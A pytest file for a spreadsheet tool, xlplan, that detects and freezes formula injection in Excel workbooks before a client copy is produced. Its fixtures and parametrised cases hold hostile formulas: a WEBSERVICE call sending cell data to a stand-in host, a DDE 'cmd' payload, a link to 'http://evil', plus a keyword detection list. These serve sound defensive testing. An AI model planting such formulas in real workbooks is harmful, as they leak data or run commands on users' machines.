"""A formula typed into an input cell, or one reaching outside the workbook, is reported by
check at its cell and never reaches the client copy live."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from xlplan.cli import main
from xlplan.reader.check import check_workbook, reaches_out
from xlplan.workbook import render_bytes
from xlplan.workbook.package import resaved_bytes

# (sheet index, cell, formula): an input field, an input table cell, a cell outside every
# block, and a computed cell typed over with a formula that calls out (DDE).
TYPED = [(0, "B5", '=WEBSERVICE("http://x/?d="&B4)'),
         (0, "H40", "=1+1"),
         (1, "B4", "=cmd|' /C calc'!A0")]


@pytest.fixture
def edited(example_plans, tmp_path) -> Path:
    wb = openpyxl.load_workbook(io.BytesIO(render_bytes(example_plans["boutique"])))
    for index, cell, formula in TYPED:
        wb.worksheets[index][cell] = formula
    kpis = wb.worksheets[1].tables["Kpis"]
    first_col, header_row = openpyxl.utils.cell.range_boundaries(kpis.ref)[:2]
    wb.worksheets[1].cell(header_row + 1, first_col, '=HYPERLINK("http://evil","x")')
    notes = wb.create_sheet("Notes")
    notes["A1"] = "=SUM(1,2)"  # the consultant's own sheet: a formula of theirs is theirs
    notes["A2"] = '=HYPERLINK("#Bilan!A1","back")'  # a link inside the workbook is safe
    path = tmp_path / "edited.xlsx"
    # Excel stores each formula's last result: the client copy can take those values
    results = {ws.title: {c.coordinate: 42 for row in ws.iter_rows() for c in row
                          if c.data_type == "f"} for ws in wb.worksheets}
    path.write_bytes(resaved_bytes(wb, results))
    return path


def _cells(book, kind):
    return {(p.sheet, p.cell.split("!")[1]) for p in book.problems if p.kind == "formula"
            and kind in p.message}


def test_check_reports_each_typed_formula_at_its_cell(edited):
    """Input field, table input cell, stray cell: reported; calls out: reported anywhere;
    the template's own formulas and the consultant's harmless ones: not."""
    book = check_workbook(edited)
    problems = {p.cell for p in book.problems if p.kind == "formula"}
    titles = openpyxl.load_workbook(edited, read_only=True).sheetnames
    kpi_cell = next(p.cell for p in book.problems if "evil" in p.message)
    assert kpi_cell.startswith(f"{titles[1]}!")
    for index, cell, _ in TYPED:
        assert f"{titles[index]}!{cell}" in problems
    assert not any(c.startswith("Notes!") for c in problems)


def test_a_fresh_workbook_has_no_formula_problem(example_plans, tmp_path):
    """Every formula the template writes is where the template expects it."""
    for name, plan in example_plans.items():
        path = tmp_path / f"{name}.xlsx"
        path.write_bytes(render_bytes(plan))
        assert not [p for p in check_workbook(path).problems if p.kind == "formula"], name


def _live_formulas(data: bytes) -> set[str]:
    found = set()
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found |= set(re.findall(r"<f[^>]*>([^<]*)</f>", package.read(name).decode()))
    return found


def test_finalize_refuses_then_freezes_with_the_option(edited, tmp_path):
    """Without the option: exit 2 naming the cells, nothing written. With it: the stored
    values, no live typed formula in any sheet part."""
    out = tmp_path / "client.xlsx"
    result = CliRunner().invoke(main, ["finalize", str(edited), "-o", str(out)])
    assert result.exit_code == 2 and "B5" in result.stderr and not out.exists()
    result = CliRunner().invoke(main, ["finalize", str(edited), "-o", str(out),
                                       "--freeze-input-formulas"])
    assert result.exit_code == 0, result.output
    live = _live_formulas(out.read_bytes())
    for _, _, formula in TYPED:
        assert formula.lstrip("=").replace("&", "&amp;").replace('"', "&quot;") not in live
    assert not any("WEBSERVICE" in f or "cmd|" in f or "http" in f for f in live)
    wb = openpyxl.load_workbook(out)
    assert wb.worksheets[0]["B5"].value == 42 and wb.worksheets[0]["B5"].data_type == "n"
    assert any("SUM(1,2)" in f for f in live), "the consultant's own formula stays"


def test_a_formula_without_a_stored_value_is_frozen_as_its_text(example_plans, tmp_path):
    """No value stored (never opened in Excel): the formula's text, as text, never live."""
    wb = openpyxl.load_workbook(io.BytesIO(render_bytes(example_plans["boutique"])))
    wb.worksheets[0]["B5"] = '=WEBSERVICE("http://x")'
    path = tmp_path / "typed.xlsx"
    wb.save(path)
    out = tmp_path / "client.xlsx"
    assert CliRunner().invoke(main, ["finalize", str(path), "-o", str(out),
                                     "--freeze-input-formulas"]).exit_code == 0
    cell = openpyxl.load_workbook(out).worksheets[0]["B5"]
    assert cell.value == '=WEBSERVICE("http://x")' and cell.data_type == "s"
    assert cell.quotePrefix
    assert not any("WEBSERVICE" in f for f in _live_formulas(out.read_bytes()))


@pytest.mark.parametrize(("formula", "out"), [
    ('=WEBSERVICE("http://x")', True), ("=cmd|' /C calc'!A0", True),
    ("=[1]Sheet1!A1", True), ('=HYPERLINK("http://x")', True), ("=HYPERLINK(A1)", True),
    ('=HYPERLINK("#Bilan!A1","x")', False), ('="a|b"', False), ("=SUM(Kpis[Statut])", False),
    ('=call("x")', True), ("=FILTERXML(A1,\"//a\")", True)])
def test_reaches_out(formula, out):
    """The web, programs (DDE, CALL) and other files are outside; a link inside is not."""
    assert reaches_out(formula) is out


_KEYWORDS = ("WEBSERVICE(", "FILTERXML(", "CALL(", "REGISTER.ID(", "EXEC(", "RTD(",
             'HYPERLINK("http', "[1]Sheet1!A1", "cmd|x")
# the letters Python's case-insensitive matching also takes for i, s and k
_LOOKALIKES = {"i": ["\u0130", "\u0131"], "s": ["\u017f"], "k": ["\u212a"]}


@st.composite
def formulas_near_the_patterns(draw: st.DrawFn) -> str:
    """A keyword the patterns look for, each letter in either case or as a look-alike, in
    some other text (accents included)."""
    keyword = draw(st.sampled_from(_KEYWORDS))
    letters = [draw(st.sampled_from([c.lower(), c.upper(), *_LOOKALIKES.get(c.lower(), [])]))
               for c in keyword]
    around = st.text(alphabet=st.sampled_from(list('=+"#éÉ A1 ()')), max_size=6)
    return draw(around) + "".join(letters) + draw(around)


@given(formulas_near_the_patterns())
def test_reaches_out_is_the_patterns_own_answer(formula):
    """The quick test before the regexes never hides a match: the answer is the patterns'
    own, whatever the case, accents and the four letters Python matches as ASCII ones."""
    from xlplan.reader.check import _LINK_OUT, _REACHES_OUT, _STRING_LITERAL

    expected = bool(_LINK_OUT.search(formula) or _REACHES_OUT.search(
        _STRING_LITERAL.sub('""', formula)))
    assert reaches_out(formula) is expected
